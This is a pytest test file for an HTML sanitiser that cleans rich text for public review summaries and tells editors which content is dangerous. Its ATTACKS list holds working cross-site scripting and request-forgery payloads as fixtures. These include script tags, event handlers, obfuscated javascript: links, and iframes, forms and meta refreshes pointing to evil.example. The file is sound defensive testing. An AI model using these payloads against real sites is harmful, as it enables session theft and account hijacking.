"""Rich text for the public: what is kept, what goes, what an editor is told."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dhr_plone.publication.safe_html import clean, dangerous, text_of

WORDED = (
    "<h3>Key issues</h3><p>Adult A was <strong>seen</strong> on <em>three</em> occasions.</p>"
    "<ul><li>Once at the front desk</li></ul>"
)

ATTACKS = [
    ("<script>steal()</script>", "<script>"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>"),
    ('<p onclick="steal()">', "onclick on <p>"),
    ("<img src=x onerror=steal()>", "onerror on <img>"),
    ("<svg/onload=steal()>", "<svg>"),
    ('<a href="javascript:steal()">', "javascript: in href of <a>"),
    ('<a href=" jAvA&#x09;script&colon;steal()">', "javascript: in href of <a>"),
    ('<a href="vbscript:steal()">', "vbscript: in href of <a>"),
    ('<a href="data:text/html,x">', "data: in href of <a>"),
    ('<iframe src="https://evil.example">', "<iframe>"),
    ('<iframe srcdoc="x">', "srcdoc on <iframe>"),
    ('<object data="https://evil.example/x.swf">', "<object>"),
    ('<embed src="https://evil.example/x.swf">', "<embed>"),
    ('<form action="https://evil.example">', "<form>"),
    ('<button formaction="javascript:steal()">', "javascript: in formaction of <button>"),
    ("<input name=password>", "<input>"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta>"),
    ('<base href="https://evil.example/">', "<base>"),
    ("<style>@import '//evil.example/x.css'</style>", "<style>"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link>"),
    ("<math><mtext><form></mtext><script>steal()</script>", "<math>"),
    ('<img src="/dhr/@@logout?steal">', "<img>"),
    ('<picture><source srcset="/dhr/@@logout?steal"></picture>', "<picture>"),
    ('<td background="/dhr/@@logout?steal">', "background on <td>"),
    ('<p style="background: url(/dhr/@@logout?steal)">', "style on <p>"),
    ('<p style="background: u\\72l(/dhr/@@logout?steal)">', "style on <p>"),
    ('<a href="https://example.org" ping="/dhr/@@logout?steal">', "ping on <a>"),
]


def test_what_a_summary_needs_is_kept_as_it_is():
    assert clean(WORDED) == WORDED


def test_a_table_keeps_its_headings_for_readers_who_hear_it():
    table = '<table><tbody><tr><th scope="row">Agency</th><td>Housing</td></tr></tbody></table>'
    assert clean(table) == table


def test_a_passage_in_another_language_keeps_its_mark():
    assert clean('<p lang="cy">Adolygiad</p>') == '<p lang="cy">Adolygiad</p>'


def test_an_element_that_is_not_listed_leaves_its_text():
    assert clean("<div><font>Adult A</font></div>") == "Adult A"


@pytest.mark.parametrize("element", ["script", "style", "svg", "iframe", "object", "template"])
def test_an_active_element_goes_with_its_content(element):
    assert clean(f"<p>before</p><{element}>inside</{element}>") == "<p>before</p>"


def test_comments_go_with_what_they_say():
    assert clean("<p>seen<!-- by Dr Rao --></p>") == "<p>seen</p>"


def test_styles_classes_ids_and_data_go():
    source = '<p style="color:red" class="x" id="rao" data-name="Rao" title="Rao">seen</p>'
    assert clean(source) == "<p>seen</p>"


def test_a_picture_goes():
    assert clean('<p>map<img src="https://example.org/a.png" alt="25 Reinmouth Close"></p>') == (
        "<p>map</p>"
    )


def test_a_link_out_is_kept_and_does_not_tell_where_from():
    assert clean('<a href="https://example.org/help">Help</a>') == (
        '<a href="https://example.org/help" rel="noopener noreferrer">Help</a>'
    )


@pytest.mark.parametrize(
    "address",
    ["/dhr/register/x7", "../resolveuid/0a1b", "resolveuid/0a1b", "#part", "//example.org"],
)
def test_an_address_within_the_site_goes_and_leaves_its_text(address):
    assert "href" not in clean(f'<a href="{address}">the review</a>')
    assert "the review" in clean(f'<a href="{address}">the review</a>')


@pytest.mark.parametrize(("attack", "name"), ATTACKS)
def test_active_content_is_named_to_the_editor(attack, name):
    assert name in dangerous(attack)


@pytest.mark.parametrize(("attack", "name"), ATTACKS)
def test_active_content_does_not_survive(attack, name):
    cleaned = clean(f"<p>kept</p>{attack}")
    assert "kept" in cleaned
    assert dangerous(cleaned) == []
    assert "evil.example" not in cleaned
    assert "steal" not in cleaned


def test_harmless_text_gives_nothing_to_tell():
    assert dangerous(WORDED) == []
    assert dangerous('<p style="color: red; margin: 1em">seen</p>') == []
    assert dangerous('<a href="mailto:help@example.org">write</a> at 9:30, see a/b:c') == []


def test_the_same_trouble_is_told_once():
    assert dangerous("<script>a</script><script>b</script>") == ["<script>"]


@pytest.mark.parametrize(
    "empty", ["", "<p></p>", "<p>&nbsp;</p>", "<p> <br></p>", "<script>x</script>"]
)
def test_markup_without_words_is_no_text(empty):
    assert text_of(empty) == ""


def test_the_text_of_a_part_is_what_one_reads():
    assert text_of("<p>Health &amp; housing</p>") == "Health & housing"


# Pieces that a parser may put together in ways of its own.
PIECES = "< > </ <!-- --> ]]> / = \" ' <a href= javascript: &#x09; &lt; p script svg math style é"
fragments = st.sampled_from([*PIECES.split(), " onload=", "\x00", "\u202e"])
sources = st.text(max_size=60) | st.lists(fragments, max_size=25).map("".join)


@given(sources)
def test_whatever_comes_in_nothing_active_comes_out(source):
    assert dangerous(clean(source)) == []


@given(sources)
def test_cleaning_what_is_clean_changes_nothing(source):
    once = clean(source)
    assert clean(once) == once


@given(sources)
def test_telling_the_editor_never_fails(source):
    assert all(isinstance(name, str) for name in dangerous(source))
